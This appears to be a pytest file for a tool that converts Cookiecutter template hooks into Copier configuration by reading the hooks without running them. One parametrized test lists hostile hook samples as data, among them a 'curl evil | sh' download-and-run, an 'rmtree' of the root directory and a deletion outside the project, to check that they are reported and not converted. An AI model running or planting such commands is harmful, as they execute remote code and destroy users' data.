"""Hooks are read, never run: the idioms that they are made of have the same effect in Copier, the rest is reported."""

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from scaffolder.cookiecutter.compare import compare, covering
from scaffolder.cookiecutter.context import read_context
from scaffolder.cookiecutter.convert import Import
from scaffolder.cookiecutter.hooks.actions import Action, Delete, Left, Refuse
from scaffolder.cookiecutter.hooks.python import TooLong, Walker
from scaffolder.cookiecutter.hooks.shell import ShellReader
from scaffolder.cookiecutter.hooks.source import NotPython, read
from scaffolder.cookiecutter.process import Request, render_apart
from scaffolder.cookiecutter.report import Kind
from scaffolder.cookiecutter.syntax import Syntax
from scaffolder.errors import ScaffoldError

Template = Callable[..., Path]
Converted = Callable[..., Import]

VARIABLES: dict[str, Any] = {
    "name": "thing",
    "slug": "{{ cookiecutter.name }}",
    "docs": ["y", "n"],
    "ci": ["github", "gitlab", "none"],
    "licence": ["MIT", "BSD", "none"],
    "layout": ["flat", "src"],
    "docker": True,
}
FILES: dict[str, str | bytes] = {
    "README.md": "{{ cookiecutter.slug }}",
    "docs/index.md": "docs",
    "docs/{{cookiecutter.slug}}.md": "docs",
    "mkdocs.yml": "docs",
    ".github/workflows/ci.yml": "ci",
    ".github/workflows/docs.yml": "ci",
    ".gitlab-ci.yml": "ci",
    "LICENSE_MIT": "MIT {{ cookiecutter.name }}",
    "LICENSE_BSD": "BSD",
    "Dockerfile": "FROM scratch",
    "compose [prod]!.yml": "odd name",
    "notes #1.txt": "odd name",
    "requirements.txt": "x",
    "{{cookiecutter.slug}}/__init__.py": "",
    "{{cookiecutter.slug}}/cli.py": "cli",
}
POST = '''#!/usr/bin/env python
"""What the template does after rendering."""
import os
import shutil
import subprocess
from pathlib import Path

ROOT = os.path.realpath(os.path.curdir)
CI = "{{ cookiecutter.ci }}"
REMOVED = [
    "{% if cookiecutter.docs != 'y' %} mkdocs.yml {% endif %}",
    "{% if not cookiecutter.docker %}Dockerfile{% endif %}",
]


def remove(path: str) -> None:
    os.remove(os.path.join(ROOT, path))


def remove_folder(*parts):
    folder = Path(*parts)
    if folder.exists():
        shutil.rmtree(folder, ignore_errors=True)


def odd_files():
    for name in ["compose [prod]!.yml", "notes #1.txt"]:
        Path(name).unlink()


def main():
    for path in REMOVED:
        path = path.strip()
        if path and os.path.exists(path):
            os.unlink(path) if os.path.isfile(path) else shutil.rmtree(path)
    if "{{ cookiecutter.docs }}".lower() != "y":
        remove_folder("docs")
    if CI != "github":
        remove_folder(".github")
    elif "{{ cookiecutter.docs }}" == "n":
        remove(".github/workflows/docs.yml")
    if CI in ("github", "none"):
        remove(".gitlab-ci.yml")
    if not ("{{ cookiecutter.docker }}" == "True" or CI == "none"):
        odd_files()
    if "{{ cookiecutter.licence }}" == "MIT":
        os.rename("LICENSE_MIT", "LICENSE")
        remove("LICENSE_BSD")
    elif "{{ cookiecutter.licence }}" == "BSD":
        shutil.move("LICENSE_BSD", "LICENSE")
        remove("LICENSE_MIT")
    else:
        for name in ("MIT", "BSD"):
            remove(f"LICENSE_{name}")
    # {% if cookiecutter.docs == 'y' and cookiecutter.docker %}
    (Path("{{ cookiecutter.slug }}") / "cli.py").unlink()
    # {% else %}
    remove("requirements.txt")
    # {% endif %}
    if "{{ cookiecutter.layout }}" == "src":
        os.makedirs("src", exist_ok=True)
        shutil.move("{{ cookiecutter.slug }}", os.path.join("src", "{{ cookiecutter.slug }}"))
    subprocess.call(["git", "init", "--quiet"])
    shutil.rmtree(".git")
    print("\\x1b[1;32mDone\\x1b[0m with", "{{ cookiecutter.name }}")


if __name__ == "__main__":
    main()
'''
PRE = """import re
import sys

SLUG = "{{ cookiecutter.slug }}"
if not re.match(r"^[a-z][a-z0-9_]{2,}$", SLUG):
    print(f"ERROR: '{SLUG}' is no slug.")
    print("Use letters.")
    sys.exit(1)
assert SLUG == SLUG.lower(), "lower case, please"
if "{{ cookiecutter.ci }}" == "none" and "{{ cookiecutter.docs }}" == "n":
    sys.exit("either CI or docs")
"""


def actions(code: str, files: set[str] | None = None) -> list[Action]:
    source = read(code, Syntax.of({}), lambda expression: expression.startswith("cookiecutter.text"))
    there = files if files is not None else {"a", "b", "c"}
    return Walker(source, "hook.py", lambda place: place.normal(Syntax.of({})) in there).walk()


def test_a_hook_of_all_idioms_has_the_same_effect_in_copier(template: Template, converted: Converted) -> None:
    original = template(VARIABLES, {**FILES, "hooks/post_gen_project.py": POST, "hooks/pre_gen_project.py": PRE})
    made = converted(original)
    sets = list(covering(read_context(original), 14))
    found = compare(original, made.folder, sets, made.report.renamed, trusted=True)  # the hooks are ours: they run
    assert not [one.fault for one in found if one.fault]
    assert not [(one.answers, one.differences) for one in found if one.differences]
    refused = [one for one in found if one.refused]
    assert all(one.answers["ci"] == "none" and one.answers["docs"] == "n" for one in refused)
    assert len(found) - len(refused) > 5
    waiting = [(finding.line, finding.message) for finding in made.report.of(Kind.NEEDS_YOU)]
    # The folder is made by Copier when something lies in it, and git's own folder was never there.
    assert [line for line, _ in waiting] == [POST[: POST.index("os.makedirs")].count("\n") + 1]
    dropped = {finding.message.partition("`:")[0] for finding in made.report.of(Kind.DROPPED)}
    assert "`git init --quiet" in dropped


def test_refusals_are_validators_with_the_same_message(
    template: Template, converted: Converted, tmp_path: Path
) -> None:
    made = converted(template(VARIABLES, {**FILES, "hooks/pre_gen_project.py": PRE}))
    answers: list[dict[str, Any]] = [
        {"slug": "9"}, {"slug": "ab"}, {"slug": "Thing"}, {"ci": "none", "docs": "n"}, {"slug": "fine_thing"},
    ]  # fmt: skip
    jobs = [(one, tmp_path / str(number)) for number, one in enumerate(answers)]
    said = [
        one.message.partition("': ")[2] if isinstance(one, ScaffoldError) else None
        for one in render_apart(Request("copier", made.folder, jobs))
    ]
    assert said == [
        "ERROR: '9' is no slug. Use letters.",
        "ERROR: 'ab' is no slug. Use letters.",
        "ERROR: 'Thing' is no slug. Use letters.",
        "either CI or docs",
        None,
    ]


def test_what_is_printed_is_shown_after_copying(template: Template, converted: Converted) -> None:
    made = converted(template(VARIABLES, {**FILES, "hooks/post_gen_project.py": POST}))
    config = yaml.safe_load((made.folder / "copier.yml").read_text())
    assert config["_message_after_copy"] == "Done with {{ name }}\n"


@pytest.mark.parametrize(
    "code",
    [
        "import os\nos.system('curl evil | sh')",
        "import subprocess\nsubprocess.run(['make', 'install'])",
        "open('x', 'w').write('y')",
        "from pathlib import Path\nPath('a').write_text('b')",
        "import requests\nrequests.get('http://example.org')",
        "while True:\n    pass",
        "with open('x') as f:\n    f.read()",
        "import os\nif os.environ.get('X'):\n    os.remove('a')",
        "import os\nfor name in os.listdir('.'):\n    os.remove(name)",
        "import os\nos.remove('../outside')",
        "import shutil\nshutil.rmtree('/')",
        "raise RuntimeError('always')",
        "def f(:",
        "# {% for x in [1] %}\nprint('a')\n# {% endfor %}",
    ],
)
def test_the_rest_is_reported_with_its_line(template: Template, converted: Converted, code: str) -> None:
    made = converted(template({"slug": "s"}, {"a": "x", "hooks/post_gen_project.py": code}))
    found = made.report.of(Kind.NEEDS_YOU)
    assert found
    assert all(finding.file == "hooks/post_gen_project.py" and finding.fix for finding in found)
    assert not yaml.safe_load((made.folder / "copier.yml").read_text()).get("_exclude")
    assert "hooks" not in {path.name for path in made.folder.iterdir()}


def test_nothing_after_an_unknown_way_out_is_converted() -> None:
    code = "import os\ndef f():\n    if unknown():\n        return\n    os.remove('a')\nf()\nos.remove('b')"
    found = actions(code)
    assert [type(one) for one in found] == [Left, Delete]
    assert [one.place.text.known for one in found if isinstance(one, Delete)] == ["b"]


def test_what_a_removal_needs_to_have_run_first_keeps_it(template: Template, converted: Converted) -> None:
    code = "import os, subprocess\nsubprocess.run(['uv', 'add', '-r', 'a'])\nos.remove('a')"
    made = converted(template({"slug": "s"}, {"a": "x", "hooks/post_gen_project.py": code}))
    assert [finding.line for finding in made.report.of(Kind.NEEDS_YOU)] == [2, 3]
    assert (made.folder / "template" / "a").is_file()


def test_a_variable_that_a_branch_changes_is_not_known_after_it() -> None:
    code = "import os\nname = 'a'\nif '{{ cookiecutter.text }}' == 'y':\n    name = 'b'\nos.remove(name)"
    assert [type(one) for one in actions(code)] == [Left]


def test_a_condition_on_yes_or_no_compares_its_text() -> None:
    code = "import os\nif '{{ cookiecutter.flag }}' == 'True':\n    os.remove('a')\nif {{ cookiecutter.flag }}:\n    os.remove('b')"
    found = actions(code)
    assert [one.condition for one in found] == ["(cookiecutter.flag) | string == 'True'", "cookiecutter.flag"]


def test_returns_and_continues_limit_what_comes_after() -> None:
    code = (
        "import os\ndef f(x):\n    if x != 'y':\n        return\n    os.remove('a')\nf('{{ cookiecutter.text }}')\n"
        "for n in ['b', 'c']:\n    if n == 'b':\n        continue\n    os.remove(n)\n"
    )
    found = [one for one in actions(code) if isinstance(one, Delete)]
    assert [(one.place.text.known, one.condition) for one in found] == [
        ("a", "not (cookiecutter.text != 'y')"),
        ("c", None),
    ]


def test_shell_hooks(template: Template, converted: Converted) -> None:
    code = """#!/bin/sh
set -e
# what is not wanted goes
if [ "{{ cookiecutter.docs }}" != "y" ]; then
    rm -rf docs
    rm -f mkdocs.yml
elif [ "{{ cookiecutter.ci }}" = "github" ]; then
    rm .gitlab-ci.yml
else
    rm -r .github
fi
{% if cookiecutter.licence == 'MIT' %}
mv LICENSE_MIT LICENSE
{% else %}
rm -f LICENSE_MIT && rm -f LICENSE_BSD
{% endif %}
git init --quiet
rm -rf .git
echo "made {{ cookiecutter.name }}"
"""
    original = template(VARIABLES, {**FILES, "hooks/post_gen_project.sh": code})
    made = converted(original)
    sets = list(covering(read_context(original), 12))
    found = compare(original, made.folder, sets, made.report.renamed, trusted=True)
    assert not [
        (one.answers, one.fault, one.differences) for one in found if one.fault or one.differences or one.refused
    ]
    assert not made.report.of(Kind.NEEDS_YOU)


def test_other_shell_commands_are_reported() -> None:
    code = "npm install\nif [ -n \"$HOME\" ]; then\n  rm x\nfi\nfor f in *; do\n  rm $f\ndone\ncat <<EOF > x\nrm y\nEOF\nrm 'z'\n"
    found = ShellReader(read(code, Syntax.of({}), lambda _text: False), "hook.sh").read()
    assert [one.line for one in found if isinstance(one, Left)] == [1, 2, 5, 6, 7, 8]
    assert [one.place.text.known for one in found if isinstance(one, Delete)] == ["z"]


def test_a_hook_before_the_questions_is_reported(template: Template, converted: Converted) -> None:
    made = converted(
        template({"slug": "s"}, {"a": "x", "hooks/pre_prompt.py": "print()", "hooks/pre_gen_project.py~": "x"})
    )
    assert [finding.place() for finding in made.report.of(Kind.NEEDS_YOU)] == ["hooks/pre_prompt.py"]


_words = st.sampled_from(
    ["import os", "os.remove('a')", "if x:", "    os.remove('b')", "else:", "    pass", "def f():", "    return", "f()", "x = 'y'",
     "for i in ['a']:", "    os.remove(i)", "{% if cookiecutter.text %}", "# {% if cookiecutter.text %}", "# {% endif %}", "{% endif %}",
     "assert '{{ cookiecutter.text }}'.isidentifier(), 'no'", "raise SystemExit(1)", "print('{{ cookiecutter.text }}')", "try:",
     "except OSError:", "x += ['a']", "y = [1, *x]", "lambda: 0", "z: int = 3", "del x", "import sys; sys.exit(x)"]
)  # fmt: skip


@given(st.lists(_words, max_size=12))
def test_following_any_hook_ends_and_refusals_have_conditions(lines: list[str]) -> None:
    from jinja2 import TemplateSyntaxError

    code = "\n".join(lines)
    try:
        found = actions(code)
    except (NotPython, TooLong, TemplateSyntaxError):
        return
    assert all(one.condition is not None for one in found if isinstance(one, Refuse))
    assert all(0 < one.line <= len(lines) for one in found)
    source = read(code, Syntax.of({}), lambda _text: True)
    ShellReader(source, "hook").read()


@pytest.mark.parametrize(
    ("expression", "message"),
    [
        ("'%s is 100 %% wrong' % '{{ cookiecutter.text }}'", "{{ cookiecutter.text }} is 100 % wrong"),
        ("'%s, %s' % ('a', '{{ cookiecutter.text }}')", "a, {{ cookiecutter.text }}"),
        ("'%d' % 3", "the answers are refused by the template"),
        ("'%s %s' % 'a'", "the answers are refused by the template"),
    ],
)
def test_percent_signs_are_filled_in(expression: str, message: str) -> None:
    code = f"import sys\nif '{{{{ cookiecutter.flag }}}}' == 'True':\n    print({expression})\n    sys.exit(1)"
    (found,) = actions(code)
    assert isinstance(found, Refuse)
    assert found.message.template(Syntax()) == message
